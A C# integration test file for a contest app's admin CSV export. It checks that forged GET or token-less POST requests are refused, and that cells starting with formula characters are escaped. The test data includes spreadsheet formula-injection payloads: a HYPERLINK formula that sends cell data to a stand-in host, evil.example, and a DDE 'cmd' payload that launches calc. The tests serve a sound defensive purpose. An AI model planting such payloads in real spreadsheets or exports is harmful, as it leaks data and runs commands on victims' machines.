using System.Net;
using Contestlet.Domain.Audit;
using Contestlet.Domain.Phones;
using Contestlet.Web.Features.Admin.Entries;
using Microsoft.EntityFrameworkCore;
using static Contestlet.Web.Tests.Integration.Winners.WinnersFixture;

namespace Contestlet.Web.Tests.Integration.Admin;

/// <summary>Issue 13 item 9: the export is a POST with antiforgery (its audit row is a state change), and no cell is a formula.</summary>
public sealed class EntriesCsvSecurityTests
{
    [Theory]
    [MemberData(nameof(DatabaseProviders.Both), MemberType = typeof(DatabaseProviders))]
    public Task AGetOrAPostWithoutTheFormsTokenExportsNothingAndRecordsNothing(string provider) =>
        WithAppAsync(provider, async app =>
        {
            var (contest, _) = await SeedEndedContestAsync(app, entryCount: 2);
            var admin = ClientSignedInAs(app, PhoneNumber.FromE164(AdminPhone), isAdmin: true);

            // What another site can make an admin's browser send: a link or image (GET), or a form without our token.
            using var get = await admin.GetAsync(AdminEntryEndpoints.CsvPath(contest.Id));
            using var getFull = await admin.GetAsync(AdminEntryEndpoints.CsvPath(contest.Id) + "?phones=full");
            using var forged = await admin.PostAsync(AdminEntryEndpoints.CsvPath(contest.Id),
                new FormUrlEncodedContent(new Dictionary<string, string> { [AdminEntryEndpoints.PhonesField] = "full" }));

            Assert.NotEqual("text/csv", get.Content.Headers.ContentType?.MediaType);
            Assert.NotEqual("text/csv", getFull.Content.Headers.ContentType?.MediaType);
            Assert.Equal(HttpStatusCode.BadRequest, forged.StatusCode);
            Assert.DoesNotContain("+1555010", await forged.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            await using var db = app.CreateDbContext();
            Assert.Equal(0, await db.AuditLog.CountAsync(a => a.Action == AuditAction.EntriesExported));
        });

    [Theory]
    [MemberData(nameof(DatabaseProviders.Both), MemberType = typeof(DatabaseProviders))]
    public Task CellsThatASpreadsheetWouldRunAsFormulasAreEscaped(string provider) =>
        WithAppAsync(provider, async app =>
        {
            var (contest, entries) = await SeedEndedContestAsync(app, entryCount: 5);
            string[] reasons = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"];
            await using (var db = app.CreateDbContext())
            {
                for (var i = 0; i < reasons.Length; i++)
                {
                    var entry = await db.Entries.SingleAsync(e => e.Id == entries[i].Id);
                    db.Entry(entry).Property(e => e.DisqualifiedAt).CurrentValue = app.Time.GetUtcNow();
                    db.Entry(entry).Property(e => e.DisqualificationReason).CurrentValue = reasons[i];
                }

                await db.SaveChangesAsync();
            }

            using var response = await CsvExport.PostAsync(ClientSignedInAs(app, PhoneNumber.FromE164(AdminPhone), isAdmin: true), contest.Id);
            var csv = await response.Content.ReadAsStringAsync();

            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var cells = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1)
                .SelectMany(line => ParseLine(line.TrimEnd('\r'))).ToList();
            Assert.NotEmpty(cells);
            Assert.All(cells, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"A spreadsheet would run the cell {cell}"));
            foreach (var reason in reasons)
            {
                Assert.Contains("'" + reason, cells);
            }
        });

    /// <summary>RFC 4180 cells of one line (quoted cells may hold commas and doubled quotes).</summary>
    private static List<string> ParseLine(string line)
    {
        var cells = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }
}
